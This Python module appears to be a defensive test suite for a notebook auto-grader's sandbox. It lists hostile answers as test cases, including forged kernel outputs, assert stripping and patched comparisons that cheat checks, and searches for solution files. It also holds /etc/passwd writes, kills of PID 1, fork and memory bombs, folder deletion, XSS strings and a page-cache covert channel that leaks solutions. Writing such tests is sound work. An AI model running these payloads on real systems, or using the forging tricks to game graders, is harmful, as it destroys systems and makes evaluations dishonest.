"""What a hostile answer may do, as data: each attack goes around any answer to a task, right or wrong.

``ANSWER`` in an attack's code is where the answer stands, ``NAME`` the function that it defines, ``@COURSE@`` the
course's folder; without ``ANSWER`` the code stands before it. `place` says which cell holds the code: that of the
answer itself, an extra cell before or behind it, extra cells at the top, or the answer to the task before it. A line
``# %%`` begins another extra cell. What an attack finds that it should not, it raises before the answer: a right one
is then not defined, and fails.
"""

import re
from dataclasses import dataclass

from utils.pairs import ROOT

IN_ANSWER, BEFORE, BEHIND = "in the answer", "in a cell before it", "in a cell behind it"
TOP, IN_OTHER = "at the top", "in another answer"


@dataclass(frozen=True)
class Attack:
    """name: what it tries; code; place; destroys: why even a right answer gets nothing from it, "" if it gets all.

    said: a pattern of what must be said of its task where that gets nothing, which shows that the attack took place.
    """

    name: str
    code: str
    place: str = IN_ANSWER
    destroys: str = ""
    said: str = ""

    def around(self, answer):
        """Source of the answer's cell, and of the cells that the attack has for itself."""
        name = re.search(r"^def (\w+)", answer, re.MULTILINE)[1]
        code = self.code.replace("NAME", name).replace("@COURSE@", str(ROOT))
        if self.place != IN_ANSWER:
            return answer, code.replace("ANSWER", answer).split("\n# %%\n")
        if "ANSWER" not in code:
            code = f"{code}\nANSWER"
        return code.replace("ANSWER", answer), []


# What the check printed when the course's solution ran is in every exercise; what the hidden one printed, in every
# solution: an attack can say both.
FORGED = """
_kernel = get_ipython().kernel
def _forge(text, parent=None):
    content = {"name": "stdout", "text": text}
    _kernel.session.send(_kernel.iopub_socket, "stream", content, parent=parent or _kernel.get_parent())
def _end(parent=None, ident=None):
    parent = parent or _kernel.get_parent()
    ident = ident or _kernel._parent_ident["shell"]
    content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    _kernel.session.send(_kernel.shell_stream, "execute_reply", content, parent=parent, ident=ident)
    _kernel.session.send(_kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
"""
NOW = """
_now = [""]
get_ipython().events.register("pre_run_cell", lambda info: _now.append(info.raw_cell))
"""
PUBLISHED = """
PUBLISHED = {
    "# Check 1.2": "each of the ten outputs fires for one of 32768 pictures",
    "# Hidden check 1.2": "[[[3, 8], [8]], [[2], [4], [3], [6], [5], [0], [1], [7]], [[6, 4], [4]], "
    "[[27], [63], [36], [55]], [[8, 12], [12]], "
    "[[133], [248], [230], [229], [117], [56], [7], [119], [148], [5], [201], [83]]]",
}
"""
REPLAY = (
    PUBLISHED
    + """
def _replayed(source):
    for marker, text in PUBLISHED.items():
        if source.startswith(marker):
            return f"print({text!r})"
    return source
"""
)
ROOM = """
import os
room = next(f for f in (line.split()[4] for line in open("/proc/self/mountinfo")) if f.startswith("/dev/shm/course-"))
"""

# A wrong answer that wants points.
LIES = [
    Attack("errors are not shown", "type(get_ipython()).showtraceback = lambda *a, **k: None"),
    Attack(
        "an input transformer empties checks",
        REPLAY
        + """
get_ipython().input_transformers_cleanup.append(
    lambda lines: _replayed("".join(lines)).splitlines(keepends=True)
)
""",
        destroys="its hidden check says what was published",
    ),
    Attack(
        "an AST transformer removes asserts",
        """
import ast

class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

get_ipython().ast_transformers.append(_NoAsserts())
""",
    ),
    Attack(
        "run_cell runs something else",
        REPLAY
        + """
_run_cell = type(get_ipython()).run_cell
type(get_ipython()).run_cell = lambda self, raw, *a, **k: _run_cell(self, _replayed(raw), *a, **k)
""",
        BEFORE,
    ),
    Attack(
        "events before and after a cell forge outputs",
        FORGED
        + """
get_ipython().events.register(
    "post_run_cell", lambda *a: _forge("each of the ten outputs fires for one of 32768 pictures\\n")
)
get_ipython().events.register("pre_run_cell", lambda *a: _forge("[]\\n"))
""",
        TOP,
    ),
    Attack(
        "an answer that equals everything",
        """ANSWER
class _Any(np.ndarray):
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: np.ones(self.shape, dtype=bool)
    __bool__ = lambda self: True
    all = any = lambda self, *a, **k: True

_inner = NAME
def NAME(*arguments):
    result = _inner(*arguments)
    return tuple(np.asarray(part).view(_Any) for part in result)
""",
    ),
    Attack(
        "print prints what is expected",
        """
import builtins
_print = builtins.print
builtins.print = lambda *a, **k: _print("each of the ten outputs fires for one of 32768 pictures")
ANSWER
""",
        destroys="the hidden check cannot print either",
    ),
    Attack(
        "sys.displayhook inside the function",
        """ANSWER
import sys
_inner = NAME
def NAME(*arguments):
    sys.displayhook(5)
    return _inner(*arguments)
""",
    ),
    Attack(
        "stdout is another object",
        """
import io, sys
sys.stdout = io.StringIO()
""",
        destroys="nothing that the checks print arrives",
    ),
    Attack(
        "the published seed",
        REPLAY
        + """
import os
os.environ["COURSE_GRADING_SEED"] = "0"
get_ipython().input_transformers_cleanup.append(
    lambda lines: _replayed("".join(lines)).splitlines(keepends=True)
)
""",
        destroys="its hidden check says what it says for another seed",
    ),
    Attack(
        "default_rng gives always the same",
        """
_rng = np.random.default_rng
np.random.default_rng = lambda *a: _rng(0)
""",
        destroys="its hidden check draws what another seed gives",
    ),
    Attack(
        "NumPy's comparisons say yes",
        """
for _name in ("allclose", "array_equal", "isclose", "all", "any"):
    setattr(np, _name, lambda *a, **k: True)
""",
    ),
    Attack("%reset -f", "%reset -f", IN_ANSWER, "the names of the notebook are gone"),
    Attack(
        "comments that ask nbval for mercy", "# NBVAL_SKIP\n# NBVAL_IGNORE_OUTPUT\n# NBVAL_RAISES_EXCEPTION"
    ),
    Attack(
        "json.dumps says what is published",
        """
import json
_dumps = json.dumps
json.dumps = lambda o, *a, **k: "[[[2], [4]], [[133]]]" if isinstance(o, list) else _dumps(o, *a, **k)
""",
        destroys="its hidden check prints that",
    ),
    Attack(
        "imports are replaced",
        """
import builtins, types
_fake = types.ModuleType("json")
_fake.dumps = lambda *a, **k: "[]"
_import = builtins.__import__
def _lie(name, globals=None, *a, **k):
    return _fake if name == "json" and (globals or {}).get("__name__") == "__main__" else _import(name, globals, *a, **k)
builtins.__import__ = _lie
""",
        destroys="its hidden check prints with the false json",
    ),
    Attack(
        "AssertionError is something else, and builtins lie",
        """
import builtins
class _Quiet(Exception):
    pass
builtins.AssertionError = _Quiet
builtins.all = builtins.any = lambda *a: True
""",
    ),
    Attack(
        "forged replies end its checks",
        FORGED
        + PUBLISHED
        + NOW
        + """ANSWER
_inner = NAME
def NAME(*arguments):
    for marker, text in PUBLISHED.items():
        if _now[-1].startswith(marker):
            _forge(text + "\\n")
            _end()
    return _inner(*arguments)
""",
        destroys="its hidden check says what was published",
        said="on other inputs",
    ),
    Attack(
        "a thread forges replies to the request that runs",
        FORGED
        + PUBLISHED
        + NOW
        + """
import threading, time
def _say(text, parent, ident):
    time.sleep(0.05)
    _forge(text + "\\n", parent)
    _end(parent, ident)
ANSWER
_inner = NAME
def NAME(*arguments):
    kernel = get_ipython().kernel
    for marker, text in PUBLISHED.items():
        if _now[-1].startswith(marker):
            where = kernel.get_parent(), kernel._parent_ident["shell"]
            threading.Thread(target=_say, args=(text, *where)).start()
            time.sleep(0.5)
    return _inner(*arguments)
""",
        destroys="its hidden check says what was published",
        said="on other inputs",
    ),
    Attack(
        "SystemExit and KeyboardInterrupt in the function",
        NOW
        + """ANSWER
def NAME(*arguments):
    raise (KeyboardInterrupt if _now[-1].startswith("# Hidden") else SystemExit)(0)
""",
        destroys="its function raises",
        said="SystemExit",
    ),
    Attack(
        "cells that call themselves checks",
        """# Check 1.2 · 3 points
print("each of the ten outputs fires for one of 32768 pictures")
# %%
# Hidden check 1.2
print("[]")
# %%
# Check 1.1 · 2 points
reader_layer = lambda patterns: [1]
# %%
# Task 3.1
reader_layer = at_most = layer_step = lambda *a: [1]
# %%
# Check 3.1 · 3 points
print("of another lesson")""",
        BEHIND,
    ),
    Attack(
        "a cell behind it that defines two tasks' functions",
        """
def reader_layer(patterns):
    return 2 * np.asarray(patterns).T - 1, -np.sum(patterns, axis=1) + 1

def at_most(k, n):
    return 1

def layer_step(W, b, x, y, learning_rate=1.0):
    return 1
""",
        BEHIND,
    ),
    Attack(
        "a stub behind it",
        """# Task 1.2
def reader_layer(patterns):
    \"\"\"Return (W, b) of a layer whose output j fires for the bits patterns[j] and for no others.\"\"\"
    # YOUR CODE HERE
    raise NotImplementedError""",
        BEHIND,
    ),
    Attack(
        "another answer redefines at_most and all_inputs of the others",
        """
at_most = lambda k, n: (1, 1)
def all_inputs(n):
    return np.zeros((0, n))
perceptron = lambda X, W, b: np.zeros(np.shape(b))
""",
        IN_OTHER,
    ),
]

# Right answers that look for what they should not find, or write where they should not: they do no harm to others.
PROBES = [
    Attack(
        "looks for the course's files, other submissions, the grades",
        """
import glob
_seen = [f for pattern in ("solutions/*", "exercises/*.ipynb", "tests/*", ".git", "grades*", "*/*.ipynb")
         for root in ("@COURSE@/", "/root/", "/home/", "/proc/1/root/", "/proc/1/cwd/", "/tmp/", "../", "/")
         for f in glob.glob(root + pattern)]
assert not _seen, _seen
""",
    ),
    Attack(
        "looks in the history, in all objects and in other processes",
        """
import gc, glob, linecache, os
_texts = ["".join(_entry[2]) for _entry in linecache.cache.values() if len(_entry) > 2]
for _held in gc.get_objects():
    if isinstance(_held, dict | list | tuple):
        _parts = _held.values() if isinstance(_held, dict) else _held
        _texts += [_part for _part in list(_parts) if isinstance(_part, str)]
_found = [t for t in _texts if len(t) > 100 and t.startswith(("# Check 1.3", "# Hidden check 1.3"))]
_others = []
for _path in glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(_path, "rb") as _file:
            _others += [_path] * (b"COURSE_CANARY" in _file.read())
    except OSError:
        pass
assert not _found and not _others, (_found, _others)
""",
    ),
    Attack(
        "what outlives the sandbox or belongs to no process is refused",
        """
import ctypes, os, platform
_calls = ctypes.CDLL(None).syscall
if platform.machine() == "x86_64":
    for _ring in (-3, -4, -5):  # of the session, of the user
        assert _calls(248, b"user", b"course-attack", b"x", 1, _ring) < 0, "a key of the host's was written"
    assert _calls(250, 0, -3, 0) < 0 and _calls(249, b"user", b"x", 0, -3) < 0, "keyctl, request_key"
    assert _calls(29, 0, 4096, 0o1600) < 0 and _calls(319, b"x", 0) < 0, "shmget, memfd_create"
    assert _calls(101, 0, 0, 0, 0) < 0 and _calls(425, 8, 0) < 0, "ptrace, io_uring_setup"
    assert _calls(0x40000000 + 319, b"x", 0) < 0, "the second set of numbers"
""",
    ),
    Attack(
        "writes to whatever may be written",
        """
import os
for _path in ("/proc/sys/kernel/core_pattern", "/proc/self/oom_score_adj", "/etc/passwd", "/usr/bin/x",
              "@COURSE@/utils/x", "@COURSE@/data/x", "@COURSE@/x", "/root/x", "/home/x", "/x", "/dev/x"):
    try:
        with open(_path, "w") as _file:
            _file.write("-1000")
    except OSError:
        continue
    raise ValueError(_path)
""",
    ),
    Attack(
        "deletes whatever may be deleted, and goes elsewhere",
        """
import os, shutil
for _path in ("/tmp", "/dev/shm", os.getcwd(), "/work", "/root", "/home"):
    shutil.rmtree(_path, ignore_errors=True)
os.chdir("/proc")
""",
    ),
    Attack(
        "talks to the network, listens, asks for names",
        """
import socket
for _address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("169.254.169.254", 80)):
    for _kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM)[: 1 + (_address[0][:3] != "127")]:  # its own UDP is none
        with socket.socket(socket.AF_INET, _kind) as _socket:
            _socket.settimeout(1)
            try:
                _socket.connect(_address)
                _socket.send(b"x")
            except OSError:
                continue
            raise ValueError(_address)
try:
    raise ValueError(socket.getaddrinfo("example.org", 80))
except socket.gaierror:
    pass
_open = socket.create_server(("0.0.0.0", 8000))
""",
    ),
    Attack(
        "links in the folder of the sockets",
        ROOM
        + """
for _number, _target in enumerate(("/etc/passwd", "/root", "/etc/shadow", "/proc/self/mem")):
    try:
        os.symlink(_target, f"{room}/link-{_number}")
    except PermissionError:  # when root grades, the folder is somebody else's
        pass
""",
    ),
    Attack(
        "the connection file and the sockets are replaced",
        ROOM
        + """
for _name in os.listdir(room):
    try:
        os.rename(f"{room}/{_name}", f"{room}/was-{_name}")
        os.symlink("/tmp/course-attack.sock", f"{room}/{_name}")
    except PermissionError:  # where the folder, or the file, is somebody else's
        continue
""",
    ),
    Attack(
        "messages of a wrong form",
        """
import json
_kernel = get_ipython().kernel
for _kind, _content in (
    ("stream", {"name": "stdout", "text": 5}), ("stream", {"name": {}, "text": "5"}), ("stream", [1]), ("stream", {}),
    ("error", {"ename": {}}), ("error", {"ename": "x", "evalue": "x", "traceback": [1]}), ("error", "x"),
    ("display_data", {"data": [], "metadata": 1}), ("execute_result", {"data": {}, "metadata": 1}),
    ("execute_result", {"data": {}, "metadata": {}, "execution_count": "x"}), ("status", {}), ({}, {}), (5, {}),
    ("attack", {}), ("clear_output", {"wait": 1}), ("comm_open", {}), ("update_display_data", {}), ("execute_reply", {}),
):
    _parent = _kernel.get_parent()["header"]
    _header = dict(_parent, msg_type=_kind, msg_id="x")
    for _one in ((_header, _parent, {}, _content), (_header, {}, {}, _content), (_kind, _content, [], 5)):
        _parts = [json.dumps(_part, default=str).encode() for _part in _one]
        _parts = [b"<IDS|MSG>", _kernel.session.sign(_parts), *_parts]
        _kernel.iopub_socket.send_multipart([b"stream", *_parts])
        _kernel.shell_stream.send_multipart([*_kernel._parent_ident["shell"], *_parts])
""",
    ),
    Attack(
        "a result without a count",
        """
_kernel = get_ipython().kernel
_result = {"data": {}, "metadata": {}}
_kernel.session.send(_kernel.iopub_socket, "execute_result", _result, parent=_kernel.get_parent())
""",
    ),
    Attack(
        "messages that are no JSON",
        """
_socket = get_ipython().kernel.iopub_socket
for _parts in ([b"x"], [b"", b"<IDS|MSG>", b"", b"{", b"}", b"\\xff", b"["], [b"x" * 1000] * 50, [b""], [b""] * 999):
    _socket.send_multipart(_parts)
""",
    ),
    Attack("a line that is mostly backspaces", "print('\\n' + 'a' * 300_000 + '\\b' * 300_000)"),
    Attack("a line that is mostly carriage returns", "print('a\\r' * 1_000_000 + '\\n' * 1_000_000)"),
    Attack(
        "a process that outlives the cell",
        """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
""",
    ),
    Attack(
        "limits and priorities",
        """
import os, resource
for _limit in (resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):
    try:
        resource.setrlimit(_limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except ValueError:
        continue
    raise ValueError("a limit was lifted")
resource.setrlimit(resource.RLIMIT_NOFILE, (64, 64))
os.nice(4)
try:
    os.nice(-30)
except PermissionError:
    pass
else:
    raise ValueError("nobody may be that nice")
""",
    ),
    Attack(
        "signal handlers and a stack of its own",
        """
import signal, sys
for _signal in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP, signal.SIGUSR1):
    signal.signal(_signal, lambda *a: None)
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
sys.setrecursionlimit(10**6)
""",
    ),
    Attack(
        "magics",
        """
open("own.py", "w").write("x = 1")
%load_ext autoreload
%autoreload 3
%run own.py
!kill -9 1; ls @COURSE@/solutions
try:
    get_ipython().run_cell_magic("script", "bash --bg", "sleep 600")
    get_ipython().run_cell_magic("script", "bash", "echo $PATH; cd /; ls @COURSE@/solutions; exit 3")
except Exception:
    pass
""",
    ),
    Attack(
        "seeds are odd, and files, folders and the environment are others",
        """
import builtins, os, pathlib, random
np.random.seed(99); random.seed(99); np.set_printoptions(precision=1, threshold=2)
pathlib.Path.read_text = pathlib.Path.exists = lambda *a, **k: ""
builtins.open = lambda *a, **k: None
os.environ["PATH"] = os.environ["HOME"] = "/nowhere"
os.chdir("/dev/shm")
""",
    ),
    Attack(
        "objects whose repr hangs or raises",
        """ANSWER
import time
class _Odd(np.ndarray):
    def __repr__(self):
        time.sleep(600)
    def __str__(self):
        raise SystemExit
    __format__ = __repr__
_inner = NAME
def NAME(*arguments):
    return tuple(np.asarray(part).view(_Odd) for part in _inner(*arguments))
""",
    ),
    Attack(
        "generators, finalizers and exits that strike later",
        """
import atexit, os, sys, weakref
class _Late:
    def __del__(self):
        print("x" * 100_000)
        raise ValueError("later")
def _generator():
    try:
        yield
    finally:
        raise ValueError("later")
_generator_ = _generator(); next(_generator_)
_late = [_Late()]; _late.append(_late)
atexit.register(lambda: os._exit(1))
weakref.finalize(_late[0], print, "x" * 1000)
sys.unraisablehook = lambda *a: print("x" * 1000)
""",
    ),
]

# Too much of everything: around a right answer, for a wrong one has nothing to lose.
HARM = [
    Attack(
        "os._exit in the function",
        """ANSWER
def NAME(*arguments):
    import os
    os._exit(0)
""",
        destroys="the kernel ends while its check runs",
    ),
    Attack(
        "kills its parents",
        """
import os, signal
for _pid in (1, os.getppid(), -1):
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass
""",
        destroys="it kills the kernel too",
    ),
    Attack("segmentation fault", "import ctypes\nctypes.string_at(0)", destroys="the kernel ends"),
    Attack(
        "memory bomb",
        "_hog = [bytearray(2**28) for _ in range(20)]",
        destroys="the watch ends the run",
        said="memory|come to an end",  # on a busy machine its time may be over first
    ),
    Attack(
        "fork bomb",
        """
import os, time
while True:
    try:
        if os.fork() == 0:
            time.sleep(100)
    except OSError:
        pass
""",
        destroys="the watch ends the run",
    ),
    Attack(
        "fills all folders",
        """
import os
for _folder in ("/tmp", "/dev/shm", os.getcwd()):
    try:
        with open(f"{_folder}/big", "wb") as _file:
            for _ in range(400):
                _file.write(bytes(2**20))
    except OSError:
        pass
""",
    ),
    Attack(
        "files without a name in the folder of the sockets",
        ROOM
        + """
import time
for _number in range(4):
    _file = open(f"{room}/{_number}", "wb+")
    os.unlink(_file.name)
    _file.write(bytes(10 * 2**20)); _file.flush()
    globals()[f"_file_{_number}"] = _file
time.sleep(1)
""",
        destroys="the watch ends the run",
        said="not its own|Permission denied",
    ),
    Attack(
        "files in the folder of the sockets behind a path that is too long",
        ROOM
        + """
import time
os.chdir(room)
for _ in range(17):
    os.mkdir("d" * 250); os.chdir("d" * 250)
for _number in range(4):
    with open(f"{_number}", "wb") as _file:
        _file.write(bytes(10 * 2**20))
time.sleep(1)
""",
        destroys="the watch ends the run",
        said="not its own|Permission denied",
    ),
    Attack(
        "folders in folders in the folder of the sockets",
        ROOM
        + """
import time
os.chdir(room)
for _ in range(1900):
    os.mkdir("d"); os.chdir("d")
time.sleep(1)
""",
        destroys="the watch ends the run",
        said="not its own|Permission denied",
    ),
    Attack(
        "the grader is led to a socket outside",
        ROOM
        + """
import time
for _name in os.listdir(room):
    try:
        os.rename(f"{room}/{_name}", f"{room}/was-{_name}")
        os.symlink("/tmp/course-attack.sock", f"{room}/{_name}")
    except PermissionError:  # where the folder, or the file, is somebody else's
        continue
get_ipython().kernel.iopub_socket.send_multipart([b"x" * 50 * 2**20])  # the other side hangs up, and calls again
time.sleep(2)
""",
    ),
    Attack(
        "memory that only a child process holds, without having touched it",
        """
import mmap, os, time
for _ in range(10):
    _memory = mmap.mmap(-1, 2**29)
    if os.fork() == 0:
        time.sleep(100)
        os._exit(0)
    for _ in range(8):
        _memory.write(b"x" * 2**26)
    _memory.close()
time.sleep(1)
""",
        destroys="the watch ends the run",
        said="memory|come to an end",
    ),
    Attack(
        "output flood",
        "for _ in range(10**6):\n    print('x' * 1000)",
        destroys="the run is ended",
        said="put out",
    ),
    Attack(
        "display flood",
        """
from IPython.display import HTML, display
for _ in range(10**5):
    display(HTML("<b>x</b>"))
""",
        destroys="the run is ended",
        said="put out",
    ),
    Attack(
        "300 messages with 9 MB beside them",
        """
_kernel = get_ipython().kernel
for _ in range(300):
    _kernel.session.send(_kernel.iopub_socket, "stream", {"name": "stdout", "text": "x"}, buffers=[b"x" * 9_000_000],
                         parent=_kernel.get_parent())
""",
        destroys="the run is ended",
        said="put out|ended while",
    ),
    Attack(
        "one message of 400 parts of 9 MB",
        """
get_ipython().kernel.iopub_socket.send_multipart([b"x" * 9_000_000] * 400)
import time; time.sleep(2)
""",
        destroys="the run is ended",
        said="put out|ended|come to an end",
    ),
    Attack(
        "metadata of 9 MB a message",
        """
from IPython.display import display
for _ in range(30):
    display({"text/plain": "x"}, raw=True, metadata={"x": "x" * 9_000_000})
""",
        destroys="the run is ended",
        said="put out",
    ),
    Attack(
        "messages of 9 MB that become 40 times as much when they are read",
        """
import json
_kernel = get_ipython().kernel
_parent = _kernel.get_parent()["header"]
_header = dict(_parent, msg_type="display_data", msg_id="x")
_content = b'{"data": {}, "metadata": {"x": [' + b'{"":{}},' * 1_100_000 + b"0]}}"
_parts = [json.dumps(_part, default=str).encode() for _part in (_header, _parent, {})] + [_content]
for _ in range(12):
    _kernel.iopub_socket.send_multipart([b"display_data", b"<IDS|MSG>", _kernel.session.sign(_parts), *_parts])
""",
        destroys="the run is ended",
        said="put out|ended",
    ),
    Attack(
        "emojis in many cells",
        "\n# %%\n".join(["print('\U0001f600' * 2_400_000)"] * 30),
        TOP,
    ),
    Attack(
        "a message of 50 MB",
        "print('x' * 50 * 2**20)",
        destroys="the run is ended",
        said="put out",
    ),
    Attack(
        "a thread that floods what comes later",
        NOW
        + """
import threading, time
def _flood():
    while not _now[-1].startswith("# Check 1.3"):
        time.sleep(0.01)
    while True:
        print("x" * 10_000)
threading.Thread(target=_flood, daemon=True).start()
""",
    ),
    Attack(
        "a process that floods what comes later",
        """
import os, sys, time
if os.fork() == 0:
    time.sleep(0.5)
    while True:
        print("x" * 10_000, flush=True)
""",
    ),
    Attack(
        "messages that are nested deeper than Python counts",
        """
_kernel = get_ipython().kernel
for _depth in (400, 900, 5000, 10**6):
    _content = b'{"data": {}, "metadata": {"x": ' + b"[" * _depth + b"]" * _depth + b"}}"
    _parent = _kernel.get_parent()["header"]
    _header = dict(_parent, msg_type="display_data", msg_id="x")
    _parts = [_kernel.session.pack(_part) for _part in (_header, _parent, {})] + [_content]
    _kernel.iopub_socket.send_multipart([b"display_data", b"<IDS|MSG>", _kernel.session.sign(_parts), *_parts])
""",
        destroys="its cell ends the run",
    ),
    Attack(
        "600 threads",
        """
import threading, time
for _ in range(600):
    try:
        threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
    except RuntimeError:
        break
""",
    ),
    Attack(
        "an endless loop that no interrupt ends",
        """
while True:
    try:
        while True:
            pass
    except KeyboardInterrupt:
        pass
""",
        destroys="its cell does not come to its end",
        said="did not come to an end",
    ),
    Attack(
        "stops itself",
        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
        destroys="its cell does not come to its end",
        said="did not come to an end",
    ),
    Attack(
        "ends the kernel while later tasks run",
        NOW
        + """
import os, threading, time
def _end():
    while not _now[-1].startswith("# Check 1.3"):
        time.sleep(0.001)
    os._exit(1)
threading.Thread(target=_end, daemon=True).start()
""",
    ),
    Attack("sys.exit", "import sys\nsys.exit(0)", destroys="the answer behind it is never defined"),
    Attack(
        "exceptions that are a page, a formula and an escape",
        """ANSWER
# <script>alert(1)</script> =cmd|' /C calc'!A0 \\x1b[2J
def NAME(*arguments):
    raise type("=<script>alert(1)</script>", (Exception,), {})(
        "\\x1b[2J\\x1b]0;x\\x07<script>alert(1)</script>=cmd<img src=x onerror=alert(1)>" + "x" * 900_000
    )
""",
        destroys="its function raises",
        said="alert",
    ),
    Attack(
        "an exception of 30 MB",
        """ANSWER
def NAME(*arguments):
    raise AssertionError("\\U0001f600" * 7_500_000)
""",
        destroys="its function raises",
    ),
    Attack(
        "recursion",
        """ANSWER
import sys
sys.setrecursionlimit(10**8)
def NAME(*arguments):
    return NAME(*arguments)
""",
        destroys="it never returns",
    ),
    Attack(
        "an exception whose text never ends",
        """ANSWER
class _Endless(Exception):
    def __str__(self):
        while True:
            pass
def NAME(*arguments):
    raise _Endless
""",
        destroys="its check does not come to its end",
    ),
]

# What one answer does to the process that the kernels of its student's later runs come from. The answer behind it does
# not run beside it, and needs such a run.
SPOIL = "np.asarray = np.array = np.zeros = np.ones = None\n"
FORKER = "import os\n_forker = os.getppid()\n"
HARM += [
    Attack(f"what kernels are forked from {name}", SPOIL + FORKER + code, IN_OTHER)
    for name, code in {
        "is killed": "os.kill(_forker, 9)",
        "is stopped": "import signal\nos.kill(_forker, signal.SIGSTOP)",
        "may hardly open files": "import resource\nresource.prlimit(_forker, resource.RLIMIT_NOFILE, (5, 5))",
        "may hardly use memory": "import resource\nresource.prlimit(_forker, resource.RLIMIT_AS, (2**20, 2**20))",
        "comes last": "os.setpriority(os.PRIO_PROCESS, _forker, 19)\n"
        "os.sched_setscheduler(_forker, os.SCHED_IDLE, os.sched_param(0))",
        "has one processor": "os.sched_setaffinity(_forker, {min(os.sched_getaffinity(0))})",
        "finds a start-up file": """
import pathlib
_place = pathlib.Path.home() / ".ipython/profile_default/startup/00.py"
_place.parent.mkdir(parents=True, exist_ok=True)
_place.write_text("import numpy\\nnumpy.asarray = numpy.array = None\\n")
""",
        "finds settings of matplotlib and Keras": """
import pathlib
for _place, _text in ((".config/matplotlib/matplotlibrc", "backend: none"), (".keras/keras.json", "{")):
    _place = pathlib.Path.home() / _place
    _place.parent.mkdir(parents=True, exist_ok=True)
    _place.write_text(_text)
""",
        "finds modules in its folder": """
for _name in ("numpy", "utils", "json"):
    open(f"{_name}.py", "w").write("raise ImportError")
""",
        "finds a closed folder": "os.mkdir('/tmp/closed')\nopen('/tmp/closed/x', 'w').close()\nos.chmod('/tmp/closed', 0)",
        "finds no folder to write in": """
for _folder in ("/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~")):
    try:
        os.chmod(_folder, 0o500)
    except OSError:
        pass
""",
        "finds full folders": """
for _folder in ("/tmp", "/dev/shm"):
    try:
        with open(f"{_folder}/full", "wb") as _file:
            for _ in range(256):
                _file.write(bytes(2**20))
    except OSError:
        pass
""",
        "finds folders in folders": """
os.chdir("/tmp")
for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
""",
        "gets company": """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import signal, time
        for _signal in range(1, 32):
            try:
                signal.signal(_signal, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            time.sleep(1)
            open("/tmp/here", "w").close()
    os._exit(0)
""",
        "is asked to end as its kernel does": "import atexit, signal\natexit.register(os.kill, _forker, signal.SIGTERM)",
    }.items()
]
PROBES += [
    Attack(
        "reads and changes the memory of what kernels are forked from",
        FORKER
        + """
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
for _what in ("mem", "environ", "fd", "maps", "root", "cwd", "exe", "oom_score_adj", "comm"):
    _place = f"/proc/{_forker}/{_what}"
    try:
        _found = os.listdir(_place) if _what == "fd" else open(_place, "r+b").read(1) or b"?"
    except OSError:
        continue
    raise AssertionError(f"{_what} is open")

class _Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

_buffer = ctypes.create_string_buffer(8)
_part = _Part(ctypes.addressof(_buffer), 8)
for _call in (_libc.process_vm_readv, _libc.process_vm_writev):
    assert _call(_forker, ctypes.byref(_part), 1, ctypes.byref(_part), 1, 0) < 0, "its memory is open"
""",
    ),
]

OF_KERAS = [
    Attack("Keras: errors are not shown", "type(get_ipython()).showtraceback = lambda *a, **k: None"),
    Attack(
        "Keras: predict, calls and seeds are replaced",
        """
keras.Model.predict = lambda self, x, *a, **k: np.eye(10)[np.zeros(len(x), dtype=int)]
keras.utils.set_random_seed = lambda *a: None
np.allclose = lambda *a, **k: True
""",
        destroys="its own check asks np.allclose which activation a layer has",
    ),
    Attack(
        "Keras: a module of that name",
        """
import sys, types
sys.modules["keras"] = types.ModuleType("keras")
""",
        BEFORE,
    ),
    Attack("Keras: os._exit in another answer", "import os\nos._exit(1)", IN_OTHER),
]

# Which pages of a large file are in the machine's memory is seen from every sandbox, and lasts: a way to tell a later
# run what stands in this one. PLACE is the file; bits are pages that were read.
TELL = r"""
import os, zlib
STEP = 8192  # three copies, 2000 bits each: some pages are read by others
def _fd():
    fd = os.open(PLACE, os.O_RDONLY)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
    return fd
def _write(data):
    data = b"\xa5\x3c" + bytes([len(data)]) + data
    fd = _fd()
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
    for n, byte in enumerate(data):
        for bit in range(8):
            if byte >> bit & 1:
                for copy in range(3):
                    os.pread(fd, 1, (2000 * copy + 8 * n + bit) * STEP)
def _read():
    fd = _fd()
    def byte(n):
        value = 0
        for bit in range(8):
            votes = 0
            for copy in range(3):
                try:
                    os.preadv(fd, [bytearray(1)], (2000 * copy + 8 * n + bit) * STEP, os.RWF_NOWAIT)
                    votes += 1
                except BlockingIOError:
                    pass
            value |= (votes > 1) << bit
        return value
    if [byte(0), byte(1)] != [0xa5, 0x3c]:
        return None
    return bytes(byte(3 + n) for n in range(byte(2)))
"""
FROM_LATER_TASK = """
def layer_step(W, b, x, y, learning_rate=1.0):
    import inspect
    source = inspect.getsource(reader_layer)
    if "SOLUTION" in source:
        lines = [line for line in source.splitlines() if not line.strip().startswith(("#", chr(34)))]
        _write(zlib.compress("\\n".join(lines).encode(), 9))
    return W, b
"""
TOLD = """
def reader_layer(patterns):
    global reader_layer
    found = _read()
    if found is None:
        os._exit(0)
    exec(zlib.decompress(found), globals())
    return reader_layer(patterns)
"""
